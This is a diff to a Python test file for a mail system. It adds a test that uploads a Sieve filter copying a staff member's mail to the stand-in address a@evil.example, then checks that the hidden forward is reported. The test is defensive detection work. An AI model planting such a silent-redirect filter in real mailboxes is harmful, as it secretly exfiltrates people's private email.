@@ -25,7 +25,7 @@ from portal.development.management.commands import up
 from tests.accounts.sessions.test_endings import WAYS as OTHER_WAYS
 from tests.accounts.sessions.test_endings import Open, opened
 from tests.conftest import MakeUser
-from tests.kit import upkeep
+from tests.kit import mail_programs, upkeep
 from tests.kit.counter import press
 from tests.kit.mail_programs import IN, Mailbox
 from tests.kit.open_programs import PROTOCOLS, OpenPrograms
@@ -194,6 +194,15 @@ def _worker(system: MailSystem) -> Iterator[None]:
         yield
     finally:
         worker.stop()
+
+
+@pytest.mark.usefixtures("told")
+def test_where_a_filter_sends_mail_on_is_told(mail_system: MailSystem, staff: Mailbox) -> None:
+    with mail_programs.sieve(mail_system, staff.address, "sieve") as connection:
+        assert mail_programs.enter_sieve(connection, staff.name, staff.app_password) == IN
+        mail_programs.put_filter(connection, 'require "copy";\r\nredirect :copy "a@evil.example";\r\n')
+    assert dovecot.forwards(mail_system.doveadm_url(), staff.name) == ["a@evil.example"]
+    assert dovecot.forwards(mail_system.doveadm_url(), Mailbox(mail_system).name) == [], "who has no filter"
 
 
 @pytest.mark.django_db
